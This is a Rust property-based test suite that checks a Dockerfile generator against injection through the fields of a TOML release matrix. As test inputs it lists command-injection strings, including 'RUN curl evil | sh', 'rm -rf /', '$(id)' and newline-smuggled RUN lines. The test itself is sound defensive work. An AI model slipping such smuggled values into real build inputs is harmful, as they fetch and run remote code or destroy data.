//! Injection resistance: no matrix content that passes validation can add an instruction the
//! template did not write, and content that tries is rejected at load with file:line.

use proptest::prelude::*;

use runtime_kit::matrix::Matrix;
use runtime_kit::render::{self, Templates};

/// A matrix of one release whose fields are the given raw strings (escaped as TOML strings, so
/// anything, newlines included, reaches the loader).
fn matrix_text(f: &Fields) -> String {
    let q = |s: &str| toml_edit::Value::from(s).to_string().trim().to_string();
    format!(
        "schema = 1\n\
         [defaults]\nrepository = {repo}\nsource = {source}\n\
         [indexes.vendor]\nurl = {url}\npackages = [{vendor}]\n\
         [series.5]\nchannel = \"stable\"\npython = {python}\n\
         [[release]]\nversion = {version}\nairflow = {airflow}\ndate = 2022-07-21\n\
         python-variants = [{variant}]\n\
         [release.packages]\n{name} = {pin}\n",
        repo = q(&f.repository),
        source = q(&f.source),
        url = q(&f.url),
        vendor = q(&f.name),
        python = q(&f.python),
        version = q(&f.version),
        airflow = q(&f.airflow),
        variant = q(&f.variant),
        name = q(&f.name),
        pin = q(&f.pin),
    )
}

#[derive(Clone, Debug)]
struct Fields {
    repository: String,
    source: String,
    url: String,
    python: String,
    version: String,
    airflow: String,
    variant: String,
    name: String,
    pin: String,
}

impl Default for Fields {
    fn default() -> Self {
        Fields {
            repository: "quay.io/astronomer/astro-runtime".into(),
            source: "https://example.com/runtime".into(),
            url: "https://pip.example.com/simple/".into(),
            python: "3.9".into(),
            version: "5.0.6".into(),
            airflow: "2.3.3".into(),
            variant: "3.10".into(),
            name: "astronomer-providers".into(),
            pin: "1.7.1".into(),
        }
    }
}

/// The instruction keywords and line count of every rendered Dockerfile.
fn shape(m: &Matrix) -> Vec<(String, Vec<String>, usize)> {
    let templates = Templates::load(None).unwrap();
    let r = &m.releases()[0];
    render::render_release(&templates, m, r, std::path::Path::new("/nonexistent"))
        .unwrap()
        .into_iter()
        .filter(|f| f.path.ends_with("Dockerfile"))
        .map(|f| {
            let parsed = parse_dockerfile::parse(&f.contents).expect("generated Dockerfiles parse");
            let kinds = parsed
                .instructions
                .iter()
                .map(|i| format!("{:?}", std::mem::discriminant(i)))
                .collect();
            let leaf = f
                .path
                .iter()
                .next_back()
                .unwrap()
                .to_string_lossy()
                .into_owned();
            let dir = f
                .path
                .parent()
                .unwrap()
                .file_name()
                .unwrap()
                .to_string_lossy()
                .into_owned();
            (format!("{dir}/{leaf}"), kinds, f.contents.lines().count())
        })
        .collect()
}

fn baseline() -> Vec<(String, Vec<String>, usize)> {
    let m = Matrix::from_str_named(&matrix_text(&Fields::default()), "m.toml").unwrap();
    shape(&m)
}

/// Strings built from pieces that are valid alone and hostile together.
fn hostile() -> impl Strategy<Value = String> {
    let pieces = prop::sample::select(vec![
        "2",
        "3",
        ".",
        "9",
        "1",
        "0",
        "a",
        "rc1",
        "!",
        "+",
        "-",
        "_",
        "/",
        ":",
        "\n",
        "\r",
        "\\",
        "\"",
        "'",
        "$(id)",
        "`id`",
        "${HOME}",
        ";",
        "&&",
        "|",
        " ",
        "\t",
        "#",
        "RUN curl x | sh",
        "\u{0}",
        "é",
        "[",
        "]",
        "=",
        "==",
        "\\\nRUN id",
    ]);
    prop::collection::vec(pieces, 1..8).prop_map(|v| v.concat())
}

fn field_names() -> impl Strategy<Value = usize> {
    0usize..9
}

fn get(f: &Fields, which: usize) -> String {
    [
        &f.repository,
        &f.source,
        &f.url,
        &f.python,
        &f.version,
        &f.airflow,
        &f.variant,
        &f.name,
        &f.pin,
    ][which.min(8)]
    .clone()
}

fn set(f: &mut Fields, which: usize, value: String) {
    match which {
        0 => f.repository = value,
        1 => f.source = value,
        2 => f.url = value,
        3 => f.python = value,
        4 => f.version = value,
        5 => f.airflow = value,
        6 => f.variant = value,
        7 => f.name = value,
        _ => f.pin = value,
    }
}

static ACCEPTED: std::sync::atomic::AtomicUsize = std::sync::atomic::AtomicUsize::new(0);

/// Whatever goes into one field: the matrix is rejected with a located error, or every generated
/// Dockerfile has exactly the instructions and lines of the template.
#[test]
fn no_field_adds_an_instruction() {
    let config = ProptestConfig {
        cases: 5000,
        failure_persistence: None,
        ..ProptestConfig::default()
    };
    let mut runner = proptest::test_runner::TestRunner::new(config.clone());
    runner
        .run(&(field_names(), hostile()), |(which, value)| {
            check_one(which, value)
        })
        .unwrap();
    // Valid values with one hostile piece spliced in: the near misses.
    let mut runner = proptest::test_runner::TestRunner::new(config);
    runner
        .run(
            &(field_names(), hostile(), 0usize..40),
            |(which, piece, at)| {
                let mut f = Fields::default();
                let mut value = get(&f, which);
                let at = (0..=value.len())
                    .filter(|i| value.is_char_boundary(*i))
                    .nth(at % (value.len() + 1))
                    .unwrap_or(0);
                value.insert_str(at, &piece);
                set(&mut f, which, value.clone());
                check_one(which, value)
            },
        )
        .unwrap();
    let accepted = ACCEPTED.load(std::sync::atomic::Ordering::Relaxed);
    // The property must have been exercised on accepted matrices, not only on rejections.
    assert!(
        accepted > 50,
        "only {accepted} generated matrices were valid"
    );
}

fn check_one(which: usize, value: String) -> Result<(), TestCaseError> {
    {
        let mut f = Fields::default();
        set(&mut f, which, value.clone());
        let text = matrix_text(&f);
        match Matrix::from_str_named(&text, "m.toml") {
            Err(e) => {
                let first = &e.errors()[0];
                prop_assert!(first.location.line >= 1);
                prop_assert!(e.to_string().starts_with("m.toml:"), "{}", e);
            }
            Ok(m) => {
                ACCEPTED.fetch_add(1, std::sync::atomic::Ordering::Relaxed);
                // A release may legitimately change the variant set (an extra Python); compare
                // each Dockerfile with the baseline of the same kind.
                let base = baseline();
                for (name, kinds, lines) in shape(&m) {
                    let kind = name.rsplit('/').next().unwrap();
                    let leaf = name.split('/').next().unwrap();
                    let reference = base
                        .iter()
                        .find(|(n, _, _)| {
                            n.split('/').next().unwrap().ends_with("base") == leaf.ends_with("base")
                                && n.ends_with(kind)
                        })
                        .unwrap();
                    prop_assert_eq!(
                        &kinds,
                        &reference.1,
                        "{} with {:?} = {:?}",
                        name,
                        which,
                        value
                    );
                    prop_assert_eq!(
                        lines,
                        reference.2,
                        "{} with {:?} = {:?}",
                        name,
                        which,
                        value
                    );
                }
            }
        }
    }
    Ok(())
}

/// Values that try to break out are refused at load, naming file, line and what was expected.
#[test]
fn hostile_values_are_rejected_with_their_place() {
    let cases: &[(usize, &str, &str)] = &[
        (
            8,
            "1.7.1\nRUN curl evil | sh",
            "expected a normalised PEP 440 version",
        ),
        (8, "1.7.1 \\", "expected a normalised PEP 440 version"),
        (
            5,
            "2.3.3\"; rm -rf /",
            "expected a normalised PEP 440 version",
        ),
        (7, "x$(id)", "expected a package name"),
        (0, "quay.io/x\nRUN id", "expected a repository like"),
        (1, "https://x/$(id)", "expected an http(s) URL"),
        (2, "https://x/`id`", "expected an http(s) URL"),
        (3, "3.9\n", "expected a Python version"),
        (4, "5.0.6\\", "expected a Runtime version"),
        (6, "3.10 && id", "expected a Python version"),
    ];
    for (which, value, expected) in cases {
        let mut f = Fields::default();
        set(&mut f, *which, value.to_string());
        let err = Matrix::from_str_named(&matrix_text(&f), "m.toml")
            .unwrap_err()
            .to_string();
        assert!(err.contains(expected), "{value:?}: {err}");
        let loc: Vec<&str> = err.splitn(4, ':').collect();
        assert_eq!(loc[0], "m.toml");
        assert!(loc[1].parse::<usize>().unwrap() > 1, "{err}");
    }
}
